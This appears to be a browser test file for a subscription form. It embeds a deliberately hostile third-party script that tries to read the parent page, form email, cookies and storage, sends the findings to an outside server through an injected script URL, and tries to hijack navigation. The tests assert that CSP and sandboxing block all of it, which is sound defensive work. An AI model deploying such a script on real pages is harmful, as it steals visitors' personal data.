import { byTurns } from '../fixtures/by-turns.ts';
import { type OutsideServer, startOutsideServer } from '../fixtures/outside-server.ts';
import { test as base, expect } from '../fixtures/test.ts';
import { live } from './permit.ts';

/** Attacks that a list's foreign script might try. It tells its own server how each try ended. */
const hostile = `
const tries = {
  document: () => parent.document.body.innerHTML,
  form: () => parent.document.forms[0].elements.email.value,
  history: () => JSON.stringify(parent.history.state),
  address: () => parent.location.href,
  cookie: () => document.cookie,
  local: () => localStorage.length,
  session: () => sessionStorage.length,
  opener: () => parent.frames.length > 0 && parent[0] === self && parent.guichet.secret,
};
const reports = Object.entries(tries).map(([name, attempt]) => {
  try { return [name, 'read ' + attempt()]; } catch (error) { return [name, error.name]; }
});
fetch(location.origin + '/api/form').then(() => 'fetched', (error) => error.name).then((fetched) => {
  const query = new URLSearchParams([...reports, ['fetch', fetched], ['own', location.href]]);
  const script = document.createElement('script');
  script.src = LIST + '/told?' + query;
  document.head.append(script);
});
try { top.location = LIST + '/elsewhere'; } catch {}
`;

interface List extends OutsideServer {
  /** The hostile script's report. */
  report(): URLSearchParams | undefined;
  /** The addresses that it was asked for with subscriptions, as they came. */
  readonly asked: string[];
  /** Drops what it was asked and told. */
  forget(): void;
}

async function startList(): Promise<List> {
  let query: URLSearchParams | undefined;
  const asked: string[] = [];
  const server = await startOutsideServer((request, _, response) => {
    const url = new URL(request.url ?? '/', server.origin());
    if (url.pathname === '/told') query = url.searchParams;
    else asked.push(request.url ?? '');
    const script =
      url.pathname === '/told' ? '_show_thank_you()' : hostile.replaceAll('LIST', `'${server.origin()}'`);
    response.setHeader('content-type', 'text/javascript').end(script);
  });
  return {
    ...server,
    asked,
    report: () => query,
    forget() {
      query = undefined;
      asked.length = 0;
    },
  };
}

const test = base.extend<{ list: List }>({
  list: async ({ resources }, use) => {
    const list = await resources.get('hostile list', async () => {
      const value = await startList();
      return { value, close: () => value.close() };
    });
    list.forget();
    await use(list);
  },
  productEnv: async ({ list }, use) => use({ MAILING_LIST_URL: `${list.origin()}/subscribe` }),
});

for (const [language, subscribe, confirmed] of byTurns(import.meta.filename, [
  ['en', 'Subscribe', 'The mailing list confirmed'],
  ['fr', 'M’abonner', 'La liste d’envoi a confirmé'],
])) {
  test(`in ${language}, a hostile script of the mailing list can read neither the form nor the page, and leads nowhere`, async ({
    page,
    list,
    faults,
  }) => {
    faults.expect(/connect-src blocked/);
    faults.expect(
      /Refused to connect|violates the following Content Security Policy directive: "default-src 'none'"/,
    );
    faults.expect(/Unsafe attempt to initiate navigation/);
    await page.goto(`/${language}/e-subscription`);
    await live(page);
    for (const [name, value] of [
      ['firstName', ' Zoé '],
      ['lastName', "O'Neil + L’Écuyer & fils 🐕"],
      ['email', 'zoe+news@example.ca'],
    ] as const) {
      await page.locator(`[name="${name}"]`).fill(value);
    }
    for (const box of ['wardRural', 'roadWork'])
      await page.locator(`[name="${box}"], [value="${box}"]`).check();
    list.asked.splice(0);
    await page.getByRole('button', { name: subscribe }).click();
    await expect(page.getByText(confirmed)).toBeVisible();
    // Byte by byte. A browser writes an apostrophe in an address as %27.
    const number = language === 'en' ? 1012 : 1026;
    expect(list.asked).toEqual([
      [
        `/subscribe?u=${number}&f=${number}&act=sub&v=2&firstname=Zo%C3%A9`,
        'lastname=O%27Neil%20%2B%20L%E2%80%99%C3%89cuyer%20%26%20fils%20%F0%9F%90%95',
        'email=zoe%2Bnews%40example.ca&nlbox[]=roadWork&nlbox[]=wardRural',
      ].join('&'),
    ]);
    const { own: frameUrl, ...query } = Object.fromEntries(list.report() ?? []);
    expect(query).toEqual({
      ...{
        document: 'SecurityError',
        form: 'SecurityError',
        history: 'SecurityError',
        address: 'SecurityError',
      },
      ...{
        cookie: 'SecurityError',
        local: 'SecurityError',
        session: 'SecurityError',
        opener: 'SecurityError',
      },
      fetch: 'TypeError',
    });
    expect(frameUrl).toMatch(/\/frames\/mailing-list$/);
    await expect(page).toHaveURL(new RegExp(`/${language}/e-subscription$`));
  });
}

test('the page itself lets no foreign script in, and only its own frames', async ({ page, list }) => {
  const policyOf = async (path: string) =>
    (await page.request.get(path)).headers()['content-security-policy'] ?? '';
  const form = await policyOf('/en/e-subscription');
  expect(form).toContain("script-src 'self';");
  expect(form).toContain("frame-src 'self'");
  expect(form).not.toContain(list.origin());
  expect(await policyOf('/frames/mailing-list')).toContain(`script-src 'self' ${list.origin()};`);
  expect(await policyOf('/en/parking-permit')).not.toContain('frame-src');
});
